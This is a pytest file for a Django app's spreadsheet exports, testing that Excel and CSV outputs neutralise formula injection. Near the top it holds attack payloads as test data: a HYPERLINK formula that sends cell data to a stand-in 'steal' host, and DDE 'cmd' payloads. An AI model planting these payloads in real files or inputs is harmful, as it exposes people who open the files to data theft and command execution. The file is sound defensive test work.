"""Formula injection (issue 12, item 4): user text exported to Excel or CSV is never a live formula.

Every .xlsx export stores text as an inline string (never `<f>`), with Excel's quote-prefix flag on text that
starts like a formula; every CSV export prefixes such text with a single quote. Numbers and dates stay numbers
and dates. The last test scans the code base so that a new spreadsheet writer that bypasses
workflows.exports fails here."""

import csv
import io
import re
import zipfile
from datetime import date
from pathlib import Path

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from workflows import engine, exports
from workflows.models import Role

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://x.example/steal?d="&A1,"Bấm vào đây")'
DDE = "=cmd|' /C calc'!A0"
PAYLOADS = (HYPERLINK, DDE, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1")


def _signed_in(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def _sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return "".join(
            archive.read(name).decode()
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and name.endswith(".xml")
        )


def _assert_inert(content: bytes, expected: list[str]) -> None:
    """No formula anywhere in the workbook, and each payload reads back exactly as typed, as text (XML reads a
    carriage return back as a line feed)."""
    expected = [payload.replace("\r", "\n") for payload in expected]
    assert "<f>" not in _sheet_xml(content) and "<f " not in _sheet_xml(content)
    book = load_workbook(io.BytesIO(content))
    cells = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    cells.setdefault(cell.value, cell)
    found = {text: cell for text, cell in cells.items() if any(payload in text for payload in expected)}
    for payload in expected:
        assert any(payload in text for text in found), (payload, list(cells))
    for text, cell in found.items():
        assert cell.data_type == "s"
        if text.startswith(("=", "+", "-", "@", "\t")):
            assert cell.quotePrefix


def test_safe_cell_neutralises_formula_text_and_keeps_other_values():
    for payload in PAYLOADS:
        assert exports.safe_cell(payload) == "'" + payload
    assert exports.safe_cell("Nguyễn Văn A") == "Nguyễn Văn A"
    assert exports.safe_cell("a=b") == "a=b"
    assert exports.safe_cell(-5) == -5 and exports.safe_cell(3.5) == 3.5 and exports.safe_cell(None) is None
    assert exports.safe_cell(date(2024, 1, 2)) == date(2024, 1, 2)


def test_workbook_keeps_numbers_and_dates_and_makes_formula_text_inert():
    content = exports.workbook_bytes(
        sheet_title="=Tên",
        heading=[HYPERLINK],
        header=["-Cột", "Số", "Ngày"],
        rows=[[payload, -5, date(2024, 1, 2)] for payload in PAYLOADS] + [["#N/A", 1.5, None]],
    )
    _assert_inert(content, [*PAYLOADS, "-Cột"])
    sheet = load_workbook(io.BytesIO(content)).active
    rows = list(sheet.iter_rows(min_row=4))
    assert [row[0].value for row in rows] == [p.replace("\r", "\n") for p in PAYLOADS] + ["#N/A"]
    assert rows[0][1].data_type == "n" and rows[0][1].value == -5
    assert rows[0][2].is_date and rows[0][2].value.date() == date(2024, 1, 2)
    assert rows[-1][0].data_type == "s" and rows[-1][1].value == 1.5


def test_safe_append_on_a_hand_built_sheet():
    book = Workbook()
    exports.safe_append(book.active, [DDE, -1, "ordinary"])
    buffer = io.BytesIO()
    book.save(buffer)
    _assert_inert(buffer.getvalue(), [DDE])


def test_dossier_awardees_excel_with_a_formula_nominee(person, unit, settings, tmp_path):
    from tests.dossiers.helpers import eligible_nominee, ready_dossier, walk_to

    settings.MEDIA_ROOT = tmp_path
    cast = _dossier_cast(person, unit)
    nominee = eligible_nominee(unit, full_name=HYPERLINK, position=DDE, sub_unit="@SUM(1+1)")
    dossier = ready_dossier(cast, lines=(("bk-tp", nominee),), title="-Đề nghị khen thưởng")
    walk_to(cast, dossier, "posted")
    response = _signed_in(cast.officer).get(reverse("dossiers:awardees_excel", args=[dossier.pk]))
    assert response.status_code == 200
    _assert_inert(response.content, [HYPERLINK, DDE, "@SUM(1+1)", "-Đề nghị khen thưởng"])
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet["A5"].value == 1 and sheet["A5"].data_type == "n"  # the row number stays a number


def _dossier_cast(person, unit):
    from types import SimpleNamespace

    return SimpleNamespace(
        officer=person("f.officer", Role.UNIT_OFFICER, unit=unit),
        head=person("f.head", Role.UNIT_HEAD, unit=unit),
        board=person("f.board", Role.BOARD_OFFICER),
        board_head=person("f.board_head", Role.BOARD_HEAD),
        chairman=person("f.chairman", Role.CITY_CHAIRMAN),
        unit=unit,
    )


def test_innovation_results_excel_with_a_formula_title_and_author(person, api):
    from tests.innovation.helpers import make_cast, open_round, submit

    cast = make_cast(person, reviewers=2)
    round_ = open_round(cast)
    initiative = submit(
        cast, round_, title=HYPERLINK, authors=[{"full_name": DDE, "unit": cast.unit, "share": "100"}]
    )
    engine.perform(round_, "close_submissions", user=cast.board)
    engine.perform(round_, "start_screening", user=cast.board)
    engine.perform(initiative, "screen", user=cast.board)
    web = _signed_in(cast.board).get(reverse("innovation:round_results_excel", args=[round_.pk]))
    via_api = api(cast.board).get(f"/api/rounds/{round_.pk}/results-xlsx/")
    for response in (web, via_api):
        assert response.status_code == 200
        _assert_inert(response.content, [HYPERLINK, DDE])


def test_plan_excel_with_a_formula_activity(person):
    from plan.importer import import_plan

    plan = import_plan("plan/data/plan_2023.yaml").plan
    plan.activities.filter(number=1).update(content=HYPERLINK, due_text="+cmd|' /C calc'!A0")
    response = _signed_in(person("p.board", Role.BOARD_OFFICER)).get(f"/ke-hoach/{plan.year}/xuat-excel/")
    assert response.status_code == 200
    _assert_inert(response.content, [HYPERLINK, "+cmd|' /C calc'!A0"])
    sheet = load_workbook(io.BytesIO(response.content)).active
    first = list(sheet.iter_rows(min_row=4, max_row=4))[0]
    assert first[0].value == 1 and first[0].data_type == "n"
    assert first[7].is_date  # the due date stays a date


def test_history_csv_with_a_formula_comment(person, unit):
    from tests.testapp.models import Widget

    widget = Widget.objects.create(title="Hồ sơ", unit=unit)
    engine.perform(widget, "submit", user=person("h.head", Role.UNIT_HEAD, unit=unit), data={"comment": DDE})
    response = _signed_in(person("h.auditor", Role.AUDITOR)).get(
        f"/lich-su/testapp/widget/{widget.pk}/?format=csv"
    )
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    comment = rows[0].index("comment")
    assert rows[1][comment] == "'" + DDE
    assert rows[1][0].isdigit()  # the sequence number is written as a plain number


WRITER = re.compile(
    r"\bWorkbook\(|\bcsv\.writer\(|\bDictWriter\(|\.writerows?\(|\bxlsxwriter\b|\bcreate_sheet\("
)
RAW_SHEET_WRITE = re.compile(r"\b(sheet|ws|worksheet|book\.active)\.append\(|\.cell\([^)]*value\s*=")
HELPERS = ("safe_cell(", "safe_append(", "safe_set(", "workbook_bytes(")


def test_every_spreadsheet_writer_uses_the_formula_guard():
    root = Path(__file__).resolve().parents[2]
    apps = [
        "workflows",
        "plan",
        "dossiers",
        "innovation",
        "councils",
        "emulation",
        "organisations",
        "project",
    ]
    writers = []
    for app in apps:
        for path in sorted((root / app).rglob("*.py")):
            if "migrations" in path.parts or path == root / "workflows" / "exports.py":
                continue
            source = path.read_text(encoding="utf-8")
            if WRITER.search(source):
                writers.append(path.relative_to(root).as_posix())
                assert any(helper in source for helper in HELPERS), f"{path}: a writer without safe_cell"
                assert not RAW_SHEET_WRITE.search(source), f"{path}: writes cells without safe_append"
    # the scan found the known writers (so the patterns still match how writers are written)
    assert {"workflows/views.py", "plan/views.py"} <= set(writers), writers
